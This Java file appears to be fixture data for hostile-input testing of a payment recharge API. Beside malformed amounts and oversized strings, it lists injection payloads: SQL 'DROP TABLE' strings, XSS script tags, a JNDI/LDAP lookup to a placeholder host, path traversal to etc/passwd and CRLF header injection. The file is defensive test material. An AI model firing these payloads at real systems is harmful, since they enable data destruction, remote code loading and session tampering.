package io.dtx.walkthrough.chaos;

import java.util.List;

/**
 * The raw material of {@link HostileRequests}: JSON values and header values each of which makes a
 * request invalid on its own (only {@link #GOOD_ACCOUNTS} are valid, and they are paired with a bad
 * amount). Bad in the ways real clients and attackers are: wrong types, overflows, Unicode digits,
 * injections, oversized strings.
 */
final class BadValues {

    static final List<String> BAD_AMOUNTS = List.of(
            "\"-5.00\"",
            "-5",
            "0",
            "\"0.00\"",
            "\"-0.00\"",
            "0.001",
            "\"1.234\"",
            "1e309",
            "1E+400",
            "-1e-400",
            "NaN",
            "\"NaN\"",
            "Infinity",
            "\"Infinity\"",
            "-Infinity",
            "\"-Infinity\"",
            "1000000.01",
            "\"99999999999999999999999999999999.99\"",
            "99999999999999999999999999999999999999999999",
            "\"abc\"",
            "true",
            "[]",
            "{}",
            "null",
            "\"\"",
            "\" \"",
            "\"1,00\"",
            "\"1.00.0\"",
            "\"0x10\"",
            "\"1.0e-3\"",
            "\"١٠٠\"",
            "\"１００\"",
            "\"100 \"",
            "\"+-1\"",
            "\"1/0\"",
            "\"1'; DROP TABLE account_pay;--\"");
    static final List<String> BAD_ACCOUNTS = List.of(
            "\"\"",
            "\" \"",
            "\"" + "a".repeat(65) + "\"",
            "\"" + "9".repeat(5000) + "\"",
            "\"张三\"",
            "\"1' OR '1'='1\"",
            "\"1; DROP TABLE account_info;--\"",
            "\"../1\"",
            "\"1\\u0000\"",
            "\"\\u202e1\"",
            "\"😀\"",
            "null",
            "[\"1\"]",
            "{\"no\":\"1\"}",
            "\"1\\r\\nX-Injected: yes\"",
            "\"<script>alert(1)</script>\"",
            "\"${jndi:ldap://x/a}\"",
            "\"1%27\"",
            "\"1 \"",
            "\"\\\"1\\\"\"");
    static final List<String> GOOD_ACCOUNTS = List.of("\"1\"", "\"chaos-1\"");
    static final List<String> BAD_TX_NOS = List.of(
            "a'b",
            "1%20OR%201=1",
            "x".repeat(65),
            "9".repeat(3000),
            "%2e%2e",
            "..%2f..%2fetc%2fpasswd",
            "%00",
            "%E5%BC%A0%E4%B8%89",
            "%3Cscript%3E",
            "1;select%201",
            "%F0%9F%98%80",
            "a.b",
            "a_b",
            "%25",
            "%27%20OR%20%271%27=%271",
            "%0d%0aX-Injected:%20yes");
    static final List<String> BAD_IDEMPOTENCY_KEYS = List.of(
            "k".repeat(129),
            "<script>",
            "' OR 1=1 --",
            "a b",
            "%0d%0aSet-Cookie:%20x=1",
            "a/b",
            "a\\b",
            "k;DROP TABLE account_pay",
            "\"k\"");
    static final List<String> BAD_CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json-patch+json",
            "text/html",
            "application/octet-stream",
            "image/png");
    static final List<String> BAD_STRUCTURES = List.of(
            "{}",
            "{\"accountNo\":\"1\"}",
            "{\"amount\":\"10.00\"}",
            "hello",
            "{\"accountNo\":\"1\",\"amount\":",
            "[{\"accountNo\":\"1\",\"amount\":\"10.00\"}]",
            "[".repeat(3000),
            "{\"a\":".repeat(2000),
            "\"just a string\"",
            "42",
            "null",
            "",
            "{\"accountNo\":\"1\",\"amount\":\"10.00\",\"admin\":true}",
            "{\"accountNo\":\"1\",\"amount\":\"10.00\",\"amount\":\"-1\"}",
            "{'accountNo':'1','amount':'10.00'}",
            "{\"accountNo\":\"1\",\"amount\":\"10.00\"}}",
            "<recharge><accountNo>1</accountNo></recharge>");

    private BadValues() {}
}
